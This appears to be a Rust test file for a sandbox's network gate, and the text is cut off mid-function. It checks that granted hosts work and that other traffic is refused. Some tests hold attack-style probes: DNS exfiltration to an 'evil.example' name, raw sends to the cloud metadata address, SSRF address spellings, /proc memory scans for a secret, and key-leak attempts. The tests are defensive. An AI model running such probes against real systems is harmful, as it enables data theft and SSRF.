//! The network gate as people meet it: real clients inside, real servers on the host's loopback.

pub(crate) mod agents;
pub(crate) mod carried;
pub(crate) mod fetching;
mod internet;
pub(crate) mod pushes;

use std::io::{ErrorKind, Read as _};
use std::net::{TcpListener, UdpSocket};

use ledger::{Expect, verify_ledger};
use rustix::process::Signal;
use serde_json::Value;
use testkit::{Ran, Remains, need, wait_until};

use internet::{Certificate, HOST, Internet, OTHER, Origin, SEEN, VOUCHED, await_record, records};

crate::tests![
    ordinary_clients_reach_a_granted_host_without_a_proxy,
    git_clones_and_fetches_over_https,
    pip_installs_from_a_granted_index,
    npm_installs_from_a_granted_registry,
    curl_and_git_work_through_either_proxy,
    a_tunnel_that_stays_closed_shows_the_servers_own_certificate,
    a_file_that_vouches_is_enough_for_clients_inside,
    a_connection_is_kept_and_a_large_body_is_whole,
    a_websocket_is_carried,
    what_was_reached_is_shown_and_sealed,
    a_name_that_is_not_granted_is_refused_and_recorded,
    another_port_of_a_granted_name_is_refused,
    nothing_leaves_by_address,
    no_spelling_of_an_address_passes_the_proxies,
    another_name_in_the_hello_is_refused,
    another_host_in_a_request_is_refused_first_or_later,
    a_certificate_that_does_not_hold_is_an_error_that_says_so,
    a_destination_that_is_not_there_is_an_error_that_says_so,
    requests_beyond_a_grant_are_refused_with_the_rule,
    a_lease_reaches_its_host_and_is_nowhere_else,
    a_placeholder_buys_nothing_at_another_host,
    a_control_plane_that_crashes_leaves_no_value,
    a_lease_without_a_value_starts_nothing,
    leases_are_listed_and_revoked,
    connections_end_with_a_killed_control_plane,
    a_stopped_run_has_a_result_for_every_intent,
    every_command_of_a_warm_sandbox_has_the_network,
    what_was_refused_is_proposed_and_then_works,
    a_rule_that_asks_lets_a_connection_through_once_approved,
    a_request_is_sent_once_approved_although_the_server_waited_no_longer,
    a_question_about_a_connection_ends_with_its_run,
    a_run_without_network_has_no_gate,
];

/// Finds what it must not find, without saying what that is on a command line.
const CANARY: &str = "canary-7f3a-the-provider-key";

/// The records of refusals in the last run, as text.
fn refusals(internet: &Internet) -> String {
    let denied = internet.records("denied").into_iter().chain(internet.records("malformed"));
    denied.map(|body| body.to_string()).collect::<Vec<_>>().join("\n")
}

fn ordinary_clients_reach_a_granted_host_without_a_proxy() {
    ["curl", "wget", "node", "openssl"].into_iter().for_each(need);
    let (internet, origin) = Internet::with(SEEN);
    let python = "import urllib.request as r; \
                  print(r.urlopen(\"https://registry.example.com/hello\").read().decode(), end=\"\")";
    let node = "fetch(\"https://registry.example.com/hello\").then(r => r.text())\
                .then(t => process.stdout.write(t))";
    let head =
        "GET /hello HTTP/1.1\\r\\nHost: registry.example.com\\r\\nConnection: close\\r\\n\\r\\n";
    let script = format!(
        "env | grep -i _proxy; \
         curl -sS https://{HOST}/hello; \
         wget -q -O - https://{HOST}/hello; \
         /usr/bin/python3 -c '{python}'; \
         /usr/bin/node -e '{node}'; \
         printf '{head}' | openssl s_client -quiet -verify_return_error -connect {HOST}:443 \
         -servername {HOST} 2>/dev/null | tail -n 1; \
         curl -sS https://{OTHER}/hello || echo refused-$?"
    );
    let ran = internet.sh(&script);
    let hello = "hello from outside\n".repeat(5);
    assert_eq!(ran.out(), format!("{hello}refused-6"), "{ran}");
    assert_eq!(origin.requests().len(), 5);
    internet.verify();
}

/// A repository that is served, with a branch.
fn serve_repository(internet: &Internet) {
    let upstream = internet.world.repository("upstream");
    upstream.write("file.txt", "text\n".repeat(5000));
    upstream.commit("Second");
    let bare = internet.www().join("git/upstream.git");
    upstream.git(&["clone", "--quiet", "--bare", ".", bare.to_str().unwrap()]);
    upstream.git(&["remote", "add", "origin", bare.to_str().unwrap()]);
}

fn git_clones_and_fetches_over_https() {
    let (internet, origin) = Internet::with(SEEN);
    serve_repository(&internet);
    let script = format!(
        "set -e; git clone -q https://{HOST}/git/upstream.git clone; cd clone; \
         git log --format=%s; wc -l < file.txt; git fetch -q origin; \
         git ls-remote https://{OTHER}/git/upstream.git || echo refused"
    );
    let ran = internet.sh(&script).expect_code(0);
    assert_eq!(ran.out(), "Second\nFirst\n5000\nrefused", "{ran}");
    assert!(origin.log().contains("git-upload-pack"));
    internet.verify();
}

fn pip_installs_from_a_granted_index() {
    let (internet, origin) = Internet::with(SEEN);
    let wheel = "import sys, zipfile\n\
        with zipfile.ZipFile(sys.argv[1], 'w') as z:\n\
        \x20   z.writestr('greeting.py', 'def greet():\\n    return \"hello from a wheel\"\\n')\n\
        \x20   d = 'greeting-1.0.dist-info/'\n\
        \x20   z.writestr(d + 'METADATA', 'Metadata-Version: 2.1\\nName: greeting\\nVersion: 1.0\\n')\n\
        \x20   z.writestr(d + 'WHEEL', 'Wheel-Version: 1.0\\nGenerator: t\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\n\
        \x20   z.writestr(d + 'RECORD', '')\n";
    let name = "greeting-1.0-py3-none-any.whl";
    let index = internet.www().join("simple/greeting");
    internet.world.write(index.join("index.html"), format!("<a href=\"{name}\">{name}</a>"));
    let line = ["/usr/bin/python3", "-c", wheel, &index.join(name).display().to_string()];
    internet.world.outside(internet.world.path(), &line).run().expect_code(0);
    let pip = "/usr/bin/python3 -m pip install --quiet --disable-pip-version-check --retries 0";
    let script = format!(
        "{pip} --index-url https://{HOST}/simple/ --target lib greeting && \
         PYTHONPATH=lib /usr/bin/python3 -c 'import greeting; print(greeting.greet())'; \
         {pip} --index-url https://{OTHER}/simple/ --target lib2 greeting || echo refused"
    );
    let ran = internet.sh(&script);
    assert_eq!(ran.out(), "hello from a wheel\nrefused", "{ran}");
    assert!(origin.requests().iter().all(|request| request["method"] == "GET"));
    internet.verify();
}

fn npm_installs_from_a_granted_registry() {
    need("npm");
    let (internet, origin) = Internet::with("methods = [\"GET\", \"HEAD\"]");
    let www = internet.www();
    let manifest = "{\"name\": \"tiny\", \"version\": \"1.0.0\"}";
    internet.world.write("tiny/package/package.json", manifest);
    internet.world.write("tiny/package/index.js", "module.exports = 'hello from a package';\n");
    std::fs::create_dir(www.join("tarballs")).unwrap();
    let tarball = www.join("tarballs/tiny-1.0.0.tgz");
    let line = ["tar", "-czf", tarball.to_str().unwrap(), "package"];
    internet.world.outside(internet.world.path().join("tiny"), &line).run().expect_code(0);
    let document = format!(
        "{{\"name\": \"tiny\", \"dist-tags\": {{\"latest\": \"1.0.0\"}}, \"versions\": {{\"1.0.0\": \
         {{\"name\": \"tiny\", \"version\": \"1.0.0\", \"dist\": {{\"tarball\": \
         \"https://{HOST}/tarballs/tiny-1.0.0.tgz\"}}}}}}}}"
    );
    internet.world.write(www.join("tiny"), document);
    std::fs::write(
        internet.project.join("package.json"),
        "{\"name\": \"own\", \"version\": \"1.0.0\"}",
    )
    .unwrap();
    let npm = "npm --silent";
    let script = format!(
        "{npm} install --registry=https://{HOST}/ tiny && node -p 'require(\"tiny\")'; \
         {npm} publish --registry=https://{HOST}/ --//{HOST}/:_authToken=x || echo refused"
    );
    let ran = internet.sh(&script);
    assert_eq!(ran.out(), "hello from a package\nrefused", "{ran}");
    assert!(origin.requests().iter().all(|request| request["method"] == "GET"));
    internet.verify();
}

fn curl_and_git_work_through_either_proxy() {
    let (internet, origin) = Internet::with(SEEN);
    serve_repository(&internet);
    for proxy in ["http://127.0.0.53:3128", "socks5h://127.0.0.53:3128"] {
        let script = format!(
            "curl -sS -x {proxy} https://{HOST}/hello; \
             git -c http.proxy={proxy} clone -q https://{HOST}/git/upstream.git clone; \
             wc -l < clone/file.txt; \
             curl -sS -x {proxy} https://{OTHER}/hello || echo refused; \
             curl -sS -x {proxy} https://{HOST}:22/ || echo refused; \
             curl -sS -x {proxy} https://127.0.0.1:{}/ || echo refused",
            origin.port
        );
        let before = origin.connections();
        let ran = internet.sh(&script).expect_code(0);
        assert_eq!(ran.out(), "hello from outside\n5000\nrefused\nrefused\nrefused", "{ran}");
        assert!(origin.connections() > before);
        assert!(refusals(&internet).contains(OTHER), "{}", refusals(&internet));
        internet.verify();
    }
}

fn a_tunnel_that_stays_closed_shows_the_servers_own_certificate() {
    let (internet, origin) = Internet::with("");
    let issuer = "openssl s_client -connect registry.example.com:443 \
                  -servername registry.example.com </dev/null 2>/dev/null | grep '^issuer'";
    let script = format!(
        "{issuer}; curl -sS --cacert ca.pem https://{HOST}/hello; \
         curl -sS --cacert ca.pem https://{OTHER}/hello || echo refused"
    );
    let ran = internet.sh(&script);
    assert!(ran.out().contains("the tests' own"), "{ran}");
    assert!(ran.out().ends_with("hello from outside\nrefused"), "{ran}");
    assert_eq!(origin.requests().len(), 1);
    internet.verify();
}

/// It vouches for its host, and for no other.
fn a_file_that_vouches_is_enough_for_clients_inside() {
    let (mut internet, origin) = Internet::with(VOUCHED);
    let other = internet.origin(Certificate::Good);
    internet.grant(OTHER, 443, &other, "");
    let python = "import urllib.request as r, sys; \
                  print(r.urlopen(sys.argv[1]).read().decode(), end=\"\")";
    let script = format!(
        "curl -sS https://{HOST}/hello; /usr/bin/python3 -c '{python}' https://{HOST}/hello; \
         curl -sS -X POST -d x https://{HOST}/hello -o /dev/null -w '%{{http_code}}\\n'; \
         curl -sS https://{OTHER}/hello || echo refused-$?"
    );
    let ran = internet.sh(&script);
    let hello = "hello from outside\n";
    assert!(ran.out().starts_with(&hello.repeat(2)), "{ran}");
    assert!(ran.out().ends_with("refused-60"), "{ran}");
    assert_eq!(origin.requests().len(), 3);
    assert!(other.requests().is_empty());
    internet.verify();
}

fn a_connection_is_kept_and_a_large_body_is_whole() {
    for more in [SEEN, ""] {
        let (internet, origin) = Internet::with(more);
        let url = format!("https://{HOST}/big?1024");
        let script = format!(
            "cat /etc/ssl/certs/ca-certificates.crt ca.pem > /tmp/both.pem; \
             export CURL_CA_BUNDLE=/tmp/both.pem; \
             curl -sS https://{HOST}/hello https://{HOST}/hello https://{HOST}/hello; \
             curl -sS {url} | sha256sum; \
             /usr/bin/python3 -c 'import hashlib; \
             print(hashlib.sha256(bytes(range(256)) * 256 * 1024).hexdigest(), \" -\")'"
        );
        let ran = internet.sh(&script).expect_code(0);
        let out = ran.out();
        let lines: Vec<&str> = out.lines().collect();
        assert_eq!(lines.len(), 5, "{ran}");
        assert_eq!(lines[3], lines[4], "{ran}");
        assert_eq!((origin.connections(), origin.requests().len()), (2, 4), "{ran}");
        assert!(internet.reached(HOST)["received"].as_u64().unwrap() >= 64 << 20);
        internet.verify();
    }
}

fn a_websocket_is_carried() {
    let client = r#"
import socket, ssl
context = ssl.create_default_context()
raw = socket.create_connection(("registry.example.com", 443))
s = context.wrap_socket(raw, server_hostname="registry.example.com")
s.sendall(b"GET /websocket HTTP/1.1\r\nHost: registry.example.com\r\nUpgrade: websocket\r\n"
          b"Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
          b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")
f = s.makefile("rb")
print(f.readline().split()[1].decode())
while f.readline() != b"\r\n":
    pass
s.sendall(b"\x81\x85\0\0\0\0hello")
print(f.read(7)[2:].decode())
"#;
    let (internet, _origin) = Internet::with(SEEN);
    let ran = internet.exec_with(&[], &["/usr/bin/python3", "-c", client]).run();
    ran.expect_code(0).expect_out("101\nHELLO");
    internet.verify();
    // Where websockets are not granted by their method, there is none.
    let (internet, origin) = Internet::with("methods = [\"HEAD\"]");
    let ran = internet.exec_with(&[], &["/usr/bin/python3", "-c", client]).run();
    assert!(ran.out().starts_with("403"), "{ran}");
    assert!(origin.requests().is_empty());
}

fn what_was_reached_is_shown_and_sealed() {
    let (internet, _origin) = Internet::with(SEEN);
    internet.sh(&format!("curl -sS https://{HOST}/hello; curl -sS https://{OTHER}/"));
    let reached = internet.reached(HOST);
    assert_eq!((&reached["port"], &reached["connections"]), (&443.into(), &1.into()), "{reached}");
    assert_eq!(reached["addresses"], serde_json::json!(["127.0.0.1"]), "{reached}");
    assert!(reached["sent"].as_u64().unwrap() > 100, "{reached}");
    assert!(reached["received"].as_u64().unwrap() > 100, "{reached}");
    let text = internet.tell(&["show"]).expect_code(0).out();
    for part in ["reached", HOST, "1 connection", "sent", "received", OTHER] {
        assert!(text.contains(part), "{part} is missing\n{text}");
    }
    let receipt = std::fs::read_to_string(internet.run().join("receipt.json")).unwrap();
    let receipt: Value = serde_json::from_str(&receipt).unwrap();
    let payload = internet.world.write("payload", receipt["payload"].as_str().unwrap());
    let line = ["base64", "-d", payload.to_str().unwrap()];
    let statement = internet.world.outside(internet.world.path(), &line).run().out();
    assert!(statement.contains(HOST), "{statement}");
    internet.verify();
}

fn a_name_that_is_not_granted_is_refused_and_recorded() {
    let (internet, origin) = Internet::with("");
    let ask = r#"
import socket, struct
for name in ["registry.example.com", "secret-data.evil.example", "registry.example.com.evil.example"]:
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    query = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(20)
    s.sendto(query, ("127.0.0.53", 53))
    print(s.recv(512)[3] & 15)
"#;
    let ran = internet.exec_with(&[], &["/usr/bin/python3", "-c", ask]).run().expect_code(0);
    assert_eq!(ran.out(), "0\n5\n5", "{ran}");
    assert!(refusals(&internet).contains("secret-data.evil.example"));
    assert_eq!(origin.connections(), 0);
    assert!(internet.records("connect.intent").is_empty(), "a lookup dials nothing");
    internet.verify();
}

fn another_port_of_a_granted_name_is_refused() {
    let (mut internet, origin) = Internet::with(SEEN);
    let other = internet.plain_origin();
    // Port 80 is open for another host, so something listens to it inside.
    internet.grant(OTHER, 80, &other, "");
    let script = format!(
        "curl -sS http://{OTHER}/hello; curl -sS -o body -w '%{{http_code}}\\n' http://{HOST}/hello; \
         cat body; curl -sS https://{HOST}:8443/hello || echo refused"
    );
    let ran = internet.sh(&script);
    assert!(ran.out().starts_with("hello from outside\n403\n"), "{ran}");
    assert!(ran.out().contains("\"error\":\"denied\"") && ran.out().ends_with("refused"), "{ran}");
    assert_eq!((origin.connections(), other.connections()), (0, 1));
    assert!(refusals(&internet).contains("80"), "{}", refusals(&internet));
}

/// Tries to reach a listener of the host by everything but a name. Prints what worked.
const BY_ADDRESS: &str = r#"
import socket, sys
tcp, udp = int(sys.argv[1]), int(sys.argv[2])
def attempt(name, act):
    try:
        act()
        print(name)
    except OSError as error:
        print("no", name, file=sys.stderr)
def connect(host, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect((host, port))
    s.sendall(b"stolen")
def heard(host):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(b"stolen", (host, udp))
    s.recv(10)
attempt("tcp", lambda: connect("127.0.0.1", tcp))
attempt("udp", lambda: heard("127.0.0.1"))
if len(sys.argv) > 3:
    for host in ["1.1.1.1", "169.254.169.254", "10.0.0.1", "198.18.0.77", "255.255.255.255"]:
        attempt("tcp " + host, lambda: connect(host, tcp))
        attempt("udp " + host, lambda: heard(host))
    for host in ["::1", "::ffff:127.0.0.1", "2606:4700::1111"]:
        attempt("tcp " + host, lambda: connect(host, tcp, socket.AF_INET6))
    def ping():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
        s.settimeout(2)
        s.sendto(b"\x08\0\xf7\xff\0\0\0\0", ("1.1.1.1", 0))
        s.recv(100)
    attempt("ping", ping)
    attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
"#;

fn nothing_leaves_by_address() {
    let (internet, _origin) = Internet::with(SEEN);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let datagrams = UdpSocket::bind("127.0.0.1:0").unwrap();
    let tcp = listener.local_addr().unwrap().port().to_string();
    let udp = datagrams.local_addr().unwrap().port().to_string();
    listener.set_nonblocking(true).unwrap();
    let line = ["/usr/bin/python3", "-c", BY_ADDRESS, &tcp, &udp];
    let ran = internet.exec_with(&[], &[&line[..], &["all"]].concat()).run().expect_code(0);
    assert_eq!(ran.out(), "", "{ran}");
    assert_eq!(listener.accept().unwrap_err().kind(), ErrorKind::WouldBlock);
    datagrams.set_nonblocking(true).unwrap();
    assert_eq!(datagrams.recv(&mut [0; 16]).unwrap_err().kind(), ErrorKind::WouldBlock);
    // Without the sandbox, the same arrives.
    datagrams.set_nonblocking(false).unwrap();
    let echo = std::thread::spawn(move || {
        let (_, from) = datagrams.recv_from(&mut [0; 16]).unwrap();
        datagrams.send_to(b"heard", from).unwrap();
    });
    internet.world.outside(&internet.project, &line).run().expect_out("tcp\nudp");
    echo.join().unwrap();
    let mut came = String::new();
    let (mut stream, _) = listener.accept().unwrap();
    stream.read_to_string(&mut came).unwrap();
    assert_eq!(came, "stolen");
}

/// Asks both proxies for each place. Prints the places that were let through.
const SPELLINGS: &str = r#"
import socket, struct, sys
port = int(sys.argv[1])
def proxy():
    s = socket.create_connection(("127.0.0.53", 3128))
    s.settimeout(20)
    return s
def connect(place):
    s = proxy()
    s.sendall(f"CONNECT {place} HTTP/1.1\r\nHost: {place}\r\n\r\n".encode())
    return s.makefile("rb").readline().split()[1:2] == [b"200"]
def socks(kind, host, port):
    s = proxy()
    s.sendall(b"\x05\x01\0")
    assert s.recv(2) == b"\x05\0"
    s.sendall(b"\x05\x01\0" + kind + host + struct.pack(">H", port))
    return s.recv(10)[1:2] == b"\0"
for host in sys.argv[2:]:
    if connect(f"{host}:{port}"):
        print("connect", host)
    bare = host.strip("[]").encode()
    if socks(b"\x03", bytes([len(bare)]) + bare, port):
        print("socks", host)
if socks(b"\x01", bytes([127, 0, 0, 1]), port) or socks(b"\x04", bytes(15) + b"\x01", port):
    print("socks address")
print(connect("registry.example.com:443"), connect("registry.example.com:22"))
"#;

fn no_spelling_of_an_address_passes_the_proxies() {
    let (internet, origin) = Internet::with(SEEN);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port().to_string();
    let line = ["/usr/bin/python3", "-c", SPELLINGS, &port];
    let hosts = [
        "127.0.0.1",
        "127.1",
        "2130706433",
        "0177.0.0.1",
        "0x7f000001",
        "0.0.0.0",
        "localhost",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[64:ff9b::7f00:1]",
        "169.254.169.254",
        "metadata.google.internal",
        "registry.example.com@127.0.0.1",
        "127.0.0.1#registry.example.com",
        "registry.example.com.evil.example",
    ];
    let ran = internet.exec_with(&[], &[&line[..], &hosts].concat()).run().expect_code(0);
    assert_eq!(ran.out(), "True False", "{ran}");
    assert_eq!(listener.accept().unwrap_err().kind(), ErrorKind::WouldBlock);
    assert_eq!(origin.connections(), 1);
    assert!(refusals(&internet).contains("169.254.169.254"));
    internet.verify();
}

fn another_name_in_the_hello_is_refused() {
    for more in [SEEN, ""] {
        let (internet, origin) = Internet::with(more);
        let client = "openssl s_client -brief -connect registry.example.com:443";
        let script = format!(
            "{client} -servername {OTHER} </dev/null; echo code-$?; \
             {client} -noservername </dev/null; echo code-$?; \
             {client} -servername {HOST} </dev/null; echo code-$?"
        );
        let ran = internet.sh(&script);
        assert_eq!(ran.out(), "code-1\ncode-1\ncode-0", "{ran}");
        assert!(ran.err().contains("alert"), "{ran}");
        let refused = refusals(&internet);
        assert!(refused.contains(OTHER), "{refused}");
        assert_eq!(internet.records("denied").len(), 2, "{refused}");
        assert!(origin.requests().is_empty());
        internet.verify();
    }
}

fn another_host_in_a_request_is_refused_first_or_later() {
    let mut internet = Internet::new();
    let origin = internet.plain_origin();
    internet.grant(HOST, 80, &origin, "");
    let client = r#"
import socket, sys
s = socket.create_connection(("registry.example.com", 80))
f = s.makefile("rb")
for host in sys.argv[1:]:
    s.sendall(b"GET /hello HTTP/1.1\r\nHost: " + host.encode() + b"\r\n\r\n")
    status, length = f.readline().split()[1].decode(), 0
    while (line := f.readline()) != b"\r\n":
        if line.lower().startswith(b"content-length:"):
            length = int(line.split()[1])
    body = f.read(length)
    print(status, body[:20].decode().strip())
"#;
    let ask = |hosts: &[&str]| {
        let line = [&["/usr/bin/python3", "-c", client], hosts].concat();
        internet.exec_with(&[], &line).run()
    };
    let ran = ask(&[HOST, HOST]).expect_code(0);
    assert_eq!(ran.out(), "200 hello from outside\n200 hello from outside", "{ran}");
    let ran = ask(&[OTHER]);
    assert!(ran.out().starts_with("403 ") || ran.out().starts_with("400 "), "{ran}");
    assert!(refusals(&internet).contains(OTHER), "{}", refusals(&internet));
    let ran = ask(&[HOST, OTHER]);
    assert!(ran.out().starts_with("200 hello from outside\n40"), "{ran}");
    assert!(refusals(&internet).contains(OTHER), "{}", refusals(&internet));
    assert_eq!(origin.requests().len(), 3);
    internet.verify();
}

fn a_certificate_that_does_not_hold_is_an_error_that_says_so() {
    for (certificate, why) in
        [(Certificate::Expired, "expired"), (Certificate::SelfSigned, "certificate")]
    {
        let mut internet = Internet::new();
        let bad = internet.origin(certificate);
        let good = internet.origin(Certificate::Good);
        internet.grant(HOST, 443, &bad, SEEN);
        internet.grant(OTHER, 443, &good, SEEN);
        let script = format!(
            "curl -sS https://{OTHER}/hello; curl -sS -w '\\n%{{http_code}}' https://{HOST}/hello; \
             curl -sSk -o /dev/null -w '\\n%{{http_code}}' https://{HOST}/hello"
        );
        let ran = internet.sh(&script);
        let text = ran.out();
        assert!(text.starts_with("hello from outside\n"), "{ran}");
        assert!(text.contains(why) && text.contains("reason"), "{ran}");
        assert!(text.ends_with("\n502") && text.contains("\n502\n"), "{ran}");
        assert!(bad.requests().is_empty());
        let ends = internet.records("connect.result");
        assert!(ends.iter().any(|end| end.to_string().contains(why)), "{ends:?}");
        internet.verify();
    }
}

fn a_destination_that_is_not_there_is_an_error_that_says_so() {
    let (mut internet, _origin) = Internet::with("");
    let gone = internet.origin(Certificate::Good);
    internet.grant(OTHER, 443, &gone, "");
    drop(gone);
    let script = format!(
        "curl -sS --cacert ca.pem https://{HOST}/hello; \
         curl -sS -w '%{{http_code}}\n' https://{OTHER}/hello; \
         curl -sS --http1.1 -w '%{{http_code}}\n' https://{OTHER}/hello"
    );
    let ran = internet.sh(&script).expect_code(0);
    let out = ran.out();
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!((lines[0], lines[2], lines[4]), ("hello from outside", "502", "502"), "{ran}");
    for line in [lines[1], lines[3]] {
        let body: Value = serde_json::from_str(line).unwrap();
        assert_eq!(body["error"], "unreachable", "{ran}");
        assert!(body["reason"].as_str().unwrap().contains(OTHER), "{ran}");
    }
    assert_eq!(internet.reached(OTHER)["failed"], 2);
    internet.verify();
}

fn requests_beyond_a_grant_are_refused_with_the_rule() {
    let (internet, origin) = Internet::with("methods = [\"GET\"]\npaths = [\"/ok/**\"]");
    internet.world.write(internet.www().join("ok/x"), "fine\n");
    let curl = "curl -sS -w '%{http_code}\\n' https://registry.example.com";
    let script = format!(
        "{curl}/ok/x; {curl}/ok/x -d body; {curl}/hello; {curl}/ok/%2e%2e/hello --path-as-is; \
         {curl}/ok/x -X DELETE; curl -sS --http1.1 {}/ok/x",
        "-w '%{http_code}\\n' https://registry.example.com"
    );
    let ran = internet.sh(&script).expect_code(0);
    let out = ran.out();
    assert!(out.starts_with("fine\n200\n{") && out.ends_with("fine\n200"), "{ran}");
    let bodies: Vec<Value> = out
        .lines()
        .filter_map(|line| serde_json::from_str(line).ok())
        .filter(Value::is_object)
        .collect();
    assert_eq!(bodies.len(), 4, "{ran}");
    for body in &bodies {
        assert!(body["reason"].is_string() && body["error"].is_string(), "{body}");
    }
    let post = &bodies[0];
    assert!(post["rule"].is_string() && post["next"].is_string(), "{post}");
    assert_eq!(origin.requests().len(), 2);
    assert!(refusals(&internet).contains("POST"));
    internet.verify();
}

/// A person who lends a key to runs, for one host.
fn lending() -> (Internet, Origin, Origin) {
    let (mut internet, origin) = Internet::with(VOUCHED);
    let other = internet.origin(Certificate::Good);
    internet.grant(OTHER, 443, &other, SEEN);
    let line = [
        "lease",
        "add",
        "prov",
        "--host",
        HOST,
        "--header",
        "x-api-key",
        "--from",
        "env:KEY",
        "--env",
        "API_KEY",
    ];
    internet.tell(&line).expect_code(0);
    (internet, origin, other)
}

fn lent(internet: &Internet, flags: &[&str], script: &str) -> Ran {
    let flags = [&["--lease", "prov"], flags].concat();
    let launch = internet.exec_with(&flags, &["bash", "-c", script]);
    launch.env("KEY", CANARY).run().expect_no_panic()
}

fn a_lease_reaches_its_host_and_is_nowhere_else() {
    let (internet, origin, _other) = lending();
    let look = r#"
import glob, os
needle = b"canary-" + b"7f3a"
for name in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        if needle in open(name, "rb").read():
            print("found in", name)
    except OSError:
        pass
for process in glob.glob("/proc/[0-9]*"):
    if int(process[6:]) == os.getpid():
        continue  # it knows what it looks for
    try:
        spans = [line.split()[0].split("-") for line in open(process + "/maps") if " rw" in line]
        memory = open(process + "/mem", "rb", 0)
        print("looked into", process)
    except OSError:
        continue
    for start, end in spans:
        try:
            memory.seek(int(start, 16))
            if needle in memory.read(int(end, 16) - int(start, 16)):
                print("found in", process)
        except (OSError, OverflowError):
            pass
"#;
    std::fs::write(internet.project.join("look.py"), look).unwrap();
    let script = format!(
        "echo placeholder $API_KEY; env > env.txt; /usr/bin/python3 look.py; \
         curl -sS -H \"x-api-key: $API_KEY\" https://{HOST}/hello"
    );
    let ran = lent(&internet, &[], &script).expect_code(0);
    assert!(ran.out().contains("placeholder "), "{ran}");
    assert!(ran.out().contains("looked into"), "{ran}");
    assert!(ran.out().contains("hello from outside"), "{ran}");
    assert_eq!(origin.requests().pop().unwrap()["headers"]["x-api-key"], CANARY);
    let told = [
        format!("{ran}"),
        format!("{}", internet.tell(&["show", "--json"])),
        format!("{}", internet.tell(&["audit", "--json"])),
        format!("{}", internet.tell(&["lease", "list", "--json"])),
    ];
    assert!(!told.concat().contains(CANARY) && !told.concat().contains("found in"), "{told:?}");
    for place in [internet.world.loop_home(), internet.world.config_home()] {
        let line = ["grep", "-rlaF", CANARY, place.to_str().unwrap()];
        internet.world.outside(internet.world.path(), &line).run().expect_code(1).expect_out("");
    }
    internet.verify();
}

fn a_placeholder_buys_nothing_at_another_host() {
    let (internet, origin, other) = lending();
    let script = format!(
        "for place in {OTHER} {HOST}; do \
         curl -sS -o /dev/null -H \"x-api-key: $API_KEY\" https://$place/hello; \
         curl -sS -o /dev/null -H \"x-other: $API_KEY\" https://$place/hello; \
         curl -sS -o /dev/null -d \"$API_KEY\" \"https://$place/?key=$API_KEY\"; done; \
         curl -sS -H \"Host: {HOST}\" -H \"x-api-key: $API_KEY\" https://{OTHER}/hello; true"
    );
    lent(&internet, &[], &script).expect_code(0);
    assert!(!other.log().contains(CANARY));
    let with_key: Vec<Value> = origin
        .requests()
        .into_iter()
        .filter(|request| request.to_string().contains(CANARY))
        .collect();
    assert_eq!(with_key.len(), 1, "{with_key:?}");
    assert_eq!(with_key[0]["headers"]["x-api-key"], CANARY);
    internet.verify();
}

/// Lifts the limit on core dumps, which shells often have, for what follows.
pub(crate) const WITH_DUMPS: [&str; 3] = ["bash", "-c", "ulimit -c unlimited; exec \"$0\" \"$@\""];

fn a_control_plane_that_crashes_leaves_no_value() {
    let (internet, origin, _other) = lending();
    let script = format!(
        "curl -sS -o /dev/null -H \"x-api-key: $API_KEY\" https://{HOST}/hello; echo up; sleep 60"
    );
    let crash = |line: &[&str], key: &str, signal| {
        let launch = internet.exec_with(line, &["bash", "-c", &script]).env("KEY", key);
        let running = launch.through(&WITH_DUMPS).start();
        running.expect_output("up");
        running.signal(signal);
        // The first of these only takes the handler away that tells of a stack overflow.
        if signal != Signal::ABORT {
            std::thread::sleep(std::time::Duration::from_millis(100));
            running.signal(signal);
        }
        running.wait()
    };
    // Without a lease it is a process like any other, so this machine does write dumps.
    let plain = crash(&[], "none", Signal::ABORT);
    assert!(plain.left_core(), "no process leaves a dump here, so this shows nothing: {plain}");
    for signal in [Signal::ABORT, Signal::SEGV, Signal::BUS] {
        let ran = crash(&["--lease", "prov"], CANARY, signal);
        assert!(!ran.left_core(), "{signal:?}: {ran}");
        assert_eq!(ran.signal(), Some(signal.as_raw()), "{ran}");
        assert!(!format!("{ran}").contains(CANARY), "{ran}");
    }
    let with_key = |request: &Value| request["headers"]["x-api-key"] == CANARY;
    assert_eq!(origin.requests().iter().filter(|request| with_key(request)).count(), 3);
    // Killed runs leave directories of the kernel's own that nobody but root may enter: grep says so.
    for (place, files) in [
        (internet.world.path().to_owned(), "core*"),
        (internet.world.loop_home(), "*"),
        (internet.world.config_home(), "*"),
    ] {
        let include = format!("--include={files}");
        let line = ["grep", "-rlaF", &include, CANARY, place.to_str().unwrap()];
        internet.world.outside(internet.world.path(), &line).run().expect_out("");
    }
}

fn a_lease_without_a_value_starts_nothing() {
    let (internet, origin, _other) = lending();
    let ran = internet.exec_with(&["--lease", "prov"], &["echo", "ran"]).run();
    let ran = ran.expect_code(125).expect_out("");
    assert!(ran.err().contains("prov") && ran.err().contains("KEY"), "{ran}");
    internet.exec_with(&["--lease", "nobody"], &["echo", "ran"]).run().expect_out("");
    assert_eq!(origin.connections(), 0);
    internet.exec_with(&[], &["echo", "ran"]).run().expect_code(0).expect_out("ran");
}

fn leases_are_listed_and_revoked() {
    let (internet, origin, _other) = lending();
    let listed = internet.tell(&["lease", "list"]).expect_code(0).out();
    for part in ["prov", HOST, "x-api-key", "API_KEY", "env:KEY"] {
        assert!(listed.contains(part), "{part} is missing\n{listed}");
    }
    // A run that has it loses it.
    let script = format!(
        "ask() {{ curl -sS -o /dev/null -w '%{{http_code}}\\n' -H \"x-api-key: $API_KEY\" \
